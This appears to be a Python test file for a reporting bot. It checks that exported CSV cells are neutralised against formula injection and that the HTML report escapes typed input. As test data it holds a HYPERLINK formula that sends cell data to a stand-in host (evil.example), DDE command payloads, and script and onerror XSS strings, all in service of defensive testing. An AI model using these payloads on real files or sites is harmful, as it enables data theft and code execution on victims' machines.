"""What the board's files carry: CSV cells that cannot run as formulas, HTML that escapes."""

from __future__ import annotations

import csv
import io

import pytest

from csp_bot.handlers.report import safe_cell
from csp_bot.models.clock import FakeClock
from csp_bot.models.db import Database
from csp_bot.models.enums import Status
from csp_bot.models.membership import MemberView
from tests.harness import PEOPLE, Harness
from tests.test_summary import log

CHAIR = PEOPLE["chair"].user
FORMULAS = {
    "SOC-1": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "SOC-2": "+1+cmd|' /C calc'!A0",
    "DASV-1": "-2+3",
    "DASV-2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "HATE-1": "=1+1",
}
# Notes are stored stripped, so a leading tab or CR never reaches the CSV from chat; the
# cell check itself is tested below.


async def report_files(bot: Harness) -> dict[str, bytes]:
    sent = await bot.send(CHAIR, "/report")
    return {m.filename or "": m.content or b"" for m in sent if m.kind in ("document", "photo")}


async def test_no_csv_cell_can_start_a_formula(
    bot: Harness, db: Database, clock: FakeClock, people: dict[str, MemberView]
) -> None:
    for ref, note in FORMULAS.items():
        log(db, clock, people["chair"], ref, Status.RED, note, mitigation=note, forecast=note)
    files = await report_files(bot)
    [csv_bytes] = [content for name, content in files.items() if name.endswith(".csv")]
    rows = list(csv.DictReader(io.StringIO(csv_bytes.decode("utf-8-sig"), newline="")))
    by_ref = {row["ref"]: row for row in rows}
    for ref, note in FORMULAS.items():
        for column in ("latest note", "mitigation", "forecast"):
            assert by_ref[ref][column] == "'" + note
    dangerous = tuple("=+-@\t\r")
    for row in rows:
        assert not any(cell.startswith(dangerous) for cell in row.values()), row


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+44 1604", "'+44 1604"),
        ("-", "'-"),
        ("@here", "'@here"),
        ("\t=x", "'\t=x"),
        ("\r=x", "'\r=x"),
        ("On track, =1 in note", "On track, =1 in note"),
        ("", ""),
        ("2021-09-20", "2021-09-20"),
    ],
)
def test_a_cell_is_neutralised_only_when_it_starts_a_formula(cell: str, shown: str) -> None:
    assert safe_cell(cell) == shown


async def test_the_html_paper_escapes_everything_typed(
    bot: Harness, db: Database, clock: FakeClock, people: dict[str, MemberView]
) -> None:
    typed = '<script>alert("x")</script><img src=x onerror=alert(1)> "quoted" & \'single\''
    log(db, clock, people["chair"], "SOC-1", Status.RED, typed, mitigation=typed, forecast=typed)
    files = await report_files(bot)
    [page_bytes] = [content for name, content in files.items() if name.endswith(".html")]
    page = page_bytes.decode()
    assert "<script>" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&amp; &#39;single&#39;" in page
